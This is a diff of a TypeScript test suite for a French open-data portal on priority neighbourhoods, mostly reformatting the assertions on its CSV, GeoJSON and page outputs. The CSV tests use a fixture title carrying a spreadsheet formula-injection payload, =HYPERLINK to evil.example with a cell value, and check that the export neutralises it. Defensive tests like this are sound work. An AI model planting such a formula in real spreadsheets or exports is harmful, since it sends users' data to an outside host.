@@ -34,10 +34,23 @@ describe("/donnees", () => {
     expect(res.headers["content-type"]).toBe("text/html; charset=utf-8");
     const html = res.body;
     for (const text of [
-      "Quartiers prioritaires de la politique de la ville (QPV)", "Quartiers et communes associées", "Actions du contrat de ville et leurs financements", "Indicateurs des quartiers",
-      "Licence Ouverte / Open Licence 2.0", 'href="https://www.etalab.gouv.fr/licence-ouverte-open-licence/"', '<time datetime="2025-02-03">3 février 2025</time>',
-      "non renseignée", "2 quartiers prioritaires", "2 quartiers et communes associées", "3 actions, 3 lignes de financement", "3 valeurs", "<strong>point</strong> comme séparateur décimal",
-      'href="/donnees/api"', 'href="/api/v1/openapi.json"', "Données de démonstration", '"@type":"Dataset"',
+      "Quartiers prioritaires de la politique de la ville (QPV)",
+      "Quartiers et communes associées",
+      "Actions du contrat de ville et leurs financements",
+      "Indicateurs des quartiers",
+      "Licence Ouverte / Open Licence 2.0",
+      'href="https://www.etalab.gouv.fr/licence-ouverte-open-licence/"',
+      '<time datetime="2025-02-03">3 février 2025</time>',
+      "non renseignée",
+      "2 quartiers prioritaires",
+      "2 quartiers et communes associées",
+      "3 actions, 3 lignes de financement",
+      "3 valeurs",
+      "<strong>point</strong> comme séparateur décimal",
+      'href="/donnees/api"',
+      'href="/api/v1/openapi.json"',
+      "Données de démonstration",
+      '"@type":"Dataset"',
     ]) {
       expect(html, text).toContain(text);
     }
@@ -53,7 +66,22 @@ describe("/donnees", () => {
   it("links only to URLs that answer 200", async () => {
     const openData = (html: string) => [...html.matchAll(/href="(\/(?:donnees|api)(?:\/[^"#]*)?)"/g)].map((m) => m[1]!.replaceAll("&amp;", "&"));
     const links = openData((await get("/donnees")).body);
-    expect(links).toEqual(expect.arrayContaining(["/donnees/qpv.csv", "/donnees/qpv.geojson", "/donnees/quartiers.csv", "/donnees/quartiers.geojson", "/donnees/actions.csv", "/donnees/actions.json", "/donnees/financements.csv", "/donnees/indicateurs.csv", "/api/v1/qpv", "/api/v1/actions", "/api/v1/indicateurs", "/donnees/api"]));
+    expect(links).toEqual(
+      expect.arrayContaining([
+        "/donnees/qpv.csv",
+        "/donnees/qpv.geojson",
+        "/donnees/quartiers.csv",
+        "/donnees/quartiers.geojson",
+        "/donnees/actions.csv",
+        "/donnees/actions.json",
+        "/donnees/financements.csv",
+        "/donnees/indicateurs.csv",
+        "/api/v1/qpv",
+        "/api/v1/actions",
+        "/api/v1/indicateurs",
+        "/donnees/api",
+      ]),
+    );
     const apiDoc = openData((await get("/donnees/api")).body);
     expect(apiDoc).toContain("/donnees/actions.json");
     for (const url of new Set([...links, ...apiDoc])) {
@@ -65,9 +93,27 @@ describe("/donnees", () => {
 describe("CSV files", () => {
   it("qpv.csv and quartiers.csv list places with or without perimeter", async () => {
     const qpv = await csv("/donnees/qpv.csv");
-    expect(qpv.header).toEqual(["slug", "nom", "type", "code", "communes", "population", "perimetre_disponible", "source_perimetre", "perimetre_mis_a_jour", "url"]);
+    expect(qpv.header).toEqual([
+      "slug",
+      "nom",
+      "type",
+      "code",
+      "communes",
+      "population",
+      "perimetre_disponible",
+      "source_perimetre",
+      "perimetre_mis_a_jour",
+      "url",
+    ]);
     expect(qpv.rows.map((r) => r.code).sort()).toEqual(["QN05901M", "QN05902M"]);
-    expect(qpv.rows.find((r) => r.code === "QN05901M")).toMatchObject({ nom: "Secteur Ouest", communes: "59350", population: "8200", perimetre_disponible: "true", perimetre_mis_a_jour: "2025-02-03T10:00:00.000Z", url: "https://portail.test/quartiers/secteur-ouest" });
+    expect(qpv.rows.find((r) => r.code === "QN05901M")).toMatchObject({
+      nom: "Secteur Ouest",
+      communes: "59350",
+      population: "8200",
+      perimetre_disponible: "true",
+      perimetre_mis_a_jour: "2025-02-03T10:00:00.000Z",
+      url: "https://portail.test/quartiers/secteur-ouest",
+    });
     expect(qpv.rows.find((r) => r.code === "QN05902M")).toMatchObject({ perimetre_disponible: "false", population: "", perimetre_mis_a_jour: "" });
     const quartiers = await csv("/donnees/quartiers.csv");
     expect(quartiers.rows.map((r) => `${r.slug}:${r.type}`).sort()).toEqual(["centre:quartier", "hellemmes:commune"]);
@@ -75,7 +121,28 @@ describe("CSV files", () => {
 
   it("actions.csv has one row per action, joined lists, dot decimals, and a neutralised formula", async () => {
     const { header, rows } = await csv("/donnees/actions.csv");
-    expect(header).toEqual(["slug", "titre", "resume", "contrat", "priorite", "priorite_slug", "statut", "statut_libelle", "avancement", "date_debut", "date_fin", "porteur", "partenaires", "quartiers", "codes_qpv", "financement_total", "compte_dans_les_totaux", "exemple", "mis_a_jour", "url"]);
+    expect(header).toEqual([
+      "slug",
+      "titre",
+      "resume",
+      "contrat",
+      "priorite",
+      "priorite_slug",
+      "statut",
+      "statut_libelle",
+      "avancement",
+      "date_debut",
+      "date_fin",
+      "porteur",
+      "partenaires",
+      "quartiers",
+      "codes_qpv",
+      "financement_total",
+      "compte_dans_les_totaux",
+      "exemple",
+      "mis_a_jour",
+      "url",
+    ]);
     expect(rows).toHaveLength(3);
     expect(rows.find((r) => r.slug === "action-formule")).toMatchObject({
       titre: `'=HYPERLINK("http://evil.example/?"&A1)`,
@@ -99,21 +166,47 @@ describe("CSV files", () => {
 
   it("financements.csv has one row per funding line with its action", async () => {
     const { header, rows } = await csv("/donnees/financements.csv");
-    expect(header).toEqual(["action_slug", "action_titre", "action_statut", "financeur", "financeur_libelle", "annee", "montant", "libelle", "compte_dans_les_totaux"]);
-    expect(rows.map((r) => `${r.action_slug} ${r.financeur} ${r.annee} ${r.montant}`)).toEqual(["action-formule etat 2024 12000.5", "action-formule metropole 2025 8000", "action-terminee caf 2019 500"]);
-    expect(rows[0]).toMatchObject({ action_titre: `'=HYPERLINK("http://evil.example/?"&A1)`, action_statut: "in_progress", financeur_libelle: "État", compte_dans_les_totaux: "true" });
+    expect(header).toEqual([
+      "action_slug",
+      "action_titre",
+      "action_statut",
+      "financeur",
+      "financeur_libelle",
+      "annee",
+      "montant",
+      "libelle",
+      "compte_dans_les_totaux",
+    ]);
+    expect(rows.map((r) => `${r.action_slug} ${r.financeur} ${r.annee} ${r.montant}`)).toEqual([
+      "action-formule etat 2024 12000.5",
+      "action-formule metropole 2025 8000",
+      "action-terminee caf 2019 500",
+    ]);
+    expect(rows[0]).toMatchObject({
+      action_titre: `'=HYPERLINK("http://evil.example/?"&A1)`,
+      action_statut: "in_progress",
+      financeur_libelle: "État",
+      compte_dans_les_totaux: "true",
+    });
   });
 
   it("indicateurs.csv lists every value", async () => {
     const { header, rows } = await csv("/donnees/indicateurs.csv");
     expect(header).toEqual(["metric", "libelle", "type_territoire", "code_territoire", "nom_territoire", "annee", "valeur", "unite", "source"]);
-    expect(rows.map((r) => `${r.metric} ${r.code_territoire} ${r.annee} ${r.valeur}`)).toEqual(["population QN05901M 2020 8200", "taux_pauvrete 59350 2021 25.1", "taux_pauvrete QN05901M 2021 42.5"]);
+    expect(rows.map((r) => `${r.metric} ${r.code_territoire} ${r.annee} ${r.valeur}`)).toEqual([
+      "population QN05901M 2020 8200",
+      "taux_pauvrete 59350 2021 25.1",
+      "taux_pauvrete QN05901M 2021 42.5",
+    ]);
   });
 });
 
 describe("GeoJSON and JSON files", () => {
   it("are valid FeatureCollections, with null geometry for places without perimeter", async () => {
-    for (const [url, count] of [["/donnees/qpv.geojson", 2], ["/donnees/quartiers.geojson", 2]] as const) {
+    for (const [url, count] of [
+      ["/donnees/qpv.geojson", 2],
+      ["/donnees/quartiers.geojson", 2],
+    ] as const) {
       const res = await get(url);
       expect(res.headers["content-type"]).toBe("application/geo+json");
       expect(res.headers["content-disposition"]).toBe(`attachment; filename="${url.split("/").pop()}"`);
